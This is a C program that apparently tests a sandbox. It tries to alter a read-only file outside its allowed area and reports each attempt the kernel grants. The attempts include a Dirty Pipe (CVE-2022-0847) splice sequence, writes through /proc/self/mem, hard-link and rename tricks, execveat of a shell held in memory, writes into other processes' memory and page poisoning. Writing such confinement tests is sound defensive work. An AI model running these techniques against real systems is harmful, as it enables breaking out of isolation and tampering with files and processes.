// Tries to change files outside by their pages, by descriptors that are open for reading, and by what has no name. Says GOT for
// each that the kernel grants.
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/fs.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static void check(const char *what, long result) {
	if (result >= 0) printf("GOT %s\n", what);
	fflush(stdout);
}

static void pages(int canary) {
	check("a page, written", mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, canary, 0) == MAP_FAILED ? -1 : 0);
	char *page = mmap(NULL, 4096, PROT_READ, MAP_SHARED, canary, 0);
	check("a page that was for reading", page == MAP_FAILED ? -1 : mprotect(page, 4096, PROT_READ | PROT_WRITE));
	int self = open("/proc/self/mem", O_RDWR);
	check("a page, by the own memory", page == MAP_FAILED ? -1 : pwrite(self, "HOSTILE", 7, (off_t)page) == 7 && page[0] == 'H' ? 0 : -1);

	// A pipe that shares the page of a file, and takes more bytes into it: CVE-2022-0847.
	int ends[2];
	loff_t at = 0;
	char buffer[65536] = {0};
	pipe2(ends, O_NONBLOCK);
	long full = write(ends[1], buffer, sizeof buffer);
	read(ends[0], buffer, full);
	if (splice(canary, &at, ends[1], NULL, 1, 0) == 1) write(ends[1], "HOSTILE", 7);
	check("a page, by a pipe", pread(canary, buffer, 8, 0) > 1 && buffer[1] == 'H' ? 0 : -1);
}

static void descriptors(int canary) {
	char outside[4096], by[64];
	snprintf(outside, sizeof outside, "%s/hostile-link", getenv("OUTSIDE"));
	int own = open(".", O_TMPFILE | O_RDWR, 0600);
	if (own < 0) own = memfd_create("own", 0);
	write(own, "hostile", 7);
	loff_t from = 0, to = 0;
	check("a copy in the kernel", copy_file_range(own, &from, canary, &to, 7, 0));
	check("a clone", ioctl(canary, FICLONE, own));
	check("room in it", fallocate(canary, 0, 0, 65536));
	check("its end, cut", ftruncate(canary, 0));
	snprintf(by, sizeof by, "/proc/self/fd/%d", canary);
	check("it, opened anew", open(by, O_WRONLY));
	check("a file without a name outside", open(getenv("OUTSIDE"), O_TMPFILE | O_RDWR, 0600));
	snprintf(by, sizeof by, "/proc/self/fd/%d", own);
	check("a name outside for an own file", linkat(AT_FDCWD, by, AT_FDCWD, outside, AT_SYMLINK_FOLLOW));
	check("a name outside, by the descriptor", linkat(own, "", AT_FDCWD, outside, AT_EMPTY_PATH));
	check("a name here for a file outside", linkat(canary, "", AT_FDCWD, "hostile-name", AT_EMPTY_PATH));
	check("an exchange with a file outside", rename("hostile-name", outside) && syscall(SYS_renameat2, AT_FDCWD, "pages.c", AT_FDCWD, outside, 2) ? -1 : 0);
}

// A program that is no file has no more rights than one that is.
static void nameless(const char *file) {
	char *argv[] = {"hostile", "-c", "echo hostile >> \"$1\"", "hostile", (char *)file, NULL};
	int program = memfd_create("program", 0), shell = open("/bin/sh", O_RDONLY), status;
	char buffer[65536];
	for (long n; (n = read(shell, buffer, sizeof buffer)) > 0;) write(program, buffer, n);
	pid_t pid = fork();
	if (pid == 0) {
		freopen("/dev/null", "w", stderr);
		syscall(SYS_execveat, program, "", argv, environ, AT_EMPTY_PATH);
		_exit(1);
	}
	check("a file outside, by a program in memory", waitpid(pid, &status, 0) < 0 || status ? -1 : 0);
}

static void memory(void) {
	char text[8] = "hostile";
	struct iovec here = {text, 8}, there = {text, 8};
	pid_t other = atoi(getenv("PROCESS"));
	check("memory of a process outside, written", process_vm_writev(other, &here, 1, &there, 1, 0));
	check("memory of the parent, written", process_vm_writev(getppid(), &here, 1, &there, 1, 0));
	snprintf(text, sizeof text, "%d", other);
	check("pages of a process outside, given up", syscall(SYS_process_madvise, syscall(SYS_pidfd_open, other, 0), &there, 1, MADV_COLD, 0));
	check("a page of the machine, called broken", madvise(text, 1, 100));
}

int main(void) {
	char file[4096];
	snprintf(file, sizeof file, "%s/canary", getenv("OUTSIDE"));
	int canary = open(file, O_RDONLY);
	pages(canary);
	descriptors(canary);
	nameless(file);
	memory();
	puts("DONE");
	return 0;
}
